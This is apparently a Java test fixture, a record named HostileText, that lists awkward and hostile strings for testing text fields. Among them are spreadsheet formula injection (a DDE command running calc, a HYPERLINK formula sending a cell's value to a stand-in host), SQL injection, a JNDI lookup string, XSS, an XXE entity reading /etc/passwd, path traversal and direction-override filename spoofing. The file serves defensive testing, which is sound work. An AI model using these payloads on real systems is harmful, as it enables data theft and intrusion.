package org.chairside.testing;

import java.util.List;

/**
 * Text that somebody may type, paste or import to break what is made of it (RELIABILITY 6). A test of a text field goes
 * through all of it; {@link #BIG} stands apart, so that a slow test takes it once.
 *
 * @param name what it is, short, for the name of a test
 */
public record HostileText(String name, String text) {
    private static final int MARKS = 5_000;
    private static final int MEGABYTE = 1_000_000;

    /** A megabyte of words, with a line end now and then. */
    public static final HostileText BIG = new HostileText("a megabyte", "words of no end \n".repeat(MEGABYTE / 17));

    /** Everything but {@link #BIG}. */
    public static final List<HostileText> ALL = List.of(
            of("formula", "=1+1"),
            of("formula that calls out", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"),
            of("formula that runs", "=cmd|' /C calc'!A0"),
            of("plus", "+cmd"),
            of("minus", "-2"),
            of("at", "@SUM(A1:A9)"),
            of("tab before a formula", "\t=1+1"),
            of("return before a formula", "\r=1+1"),
            of("line end before a formula", "\n=1+1"),
            of("blank before a formula", " =1+1"),
            of("wide equals sign", "\uFF1D1+1"),
            of("apostrophe before a formula", "'=1+1"),
            of("two apostrophes before a formula", "''=1+1"),
            of("formula after a line end", "ok\r\n=1+1"),
            of("quotes, commas and line ends", "a \"b\" 'c', d\r\ne\nf\rg;h\ti"),
            of("quote alone", "\""),
            of("SQL", "'); DROP TABLE entry; --"),
            of("NUL", "a\u0000b"),
            of("C0 controls", "a\u0001\u0002\u0007\u0008\u000B\u000C\u001B[31m\u001Fb\u007F"),
            of("C1 controls", "a\u0080\u0085\u009B31m\u009Fb"),
            of("turned direction", "\u202Eevil\u202C \u202Ax\u202B y\u202Dz"),
            of("isolated direction", "\u2066x\u2067y\u2068z\u2069"),
            of("direction never turned back", "name \u202Egnp.exe"),
            of("signs of no width", "a\u200Bb\u200Cc\u200Dd\u200Ee\u200Ff\u2060g\u00ADh"),
            of("byte order mark", "\uFEFFname\uFEFF"),
            of("line and paragraph separators", "a\u2028b\u2029c"),
            of("homoglyph", "M\u0430rta \u041E\u0455ei"),
            of("5,000 marks on one letter", "e" + "\u0301".repeat(MARKS) + " end"),
            of("family of emoji", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDFF4"),
            of("first half of a pair", "a\uD83Db"),
            of("second half of a pair", "a\uDE00b"),
            of("halves the wrong way round", "\uDE00\uD83D"),
            of("half at the end", "end\uD83D"),
            of("composed", "Jos\u00E9 \u00C5"),
            of("decomposed", "Jose\u0301 A\u030A"),
            of("right to left", "\u05D3\u05D5\u05D3 \u0645\u062D\u0645\u062F 12/80"),
            of("format strings", "%n %s %x %1$s {0} ${jndi:ldap://x.invalid/a} #{1} \\u0041 \\x41"),
            of("HTML", "</td></div><script>alert(1)</script><img src=x onerror=alert(1)>&amp;&lt;b&gt;"),
            of("XML", "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?x?><!-- -- >"),
            of("BBCode", "[b]x[/b] [url=http://x.invalid]y[/url]"),
            of("Markdown", "# a *b* _c_ [d](javascript:alert(1)) `e` ![f](x) <g>"),
            of("path", "../../../etc/passwd C:\\CON\\aux.txt \\\\host\\share x:y"),
            of("JSON", "\"},{\"seq\":1,\"a\":[null]\\"),
            of("not a character", "a\uFFFE\uFFFFb\uFDD0 \uDBFF\uDFFF"),
            of("private and replacement", "\uE000 \uFFFD \uFFFC"),
            of("plain word of a thousand letters", "x".repeat(1_000)),
            of("blanks around", "  a  "),
            of("line ends around", "\r\n a \n\n"),
            of("tabs and line ends only", "\t\r\n"),
            of("blanks only", "   "),
            of("wide blanks only", "\u00A0\u3000\u2003"),
            of("nothing", ""));

    private static HostileText of(String name, String text) {
        return new HostileText(name, text);
    }

    @Override
    public String toString() {
        return name;
    }
}
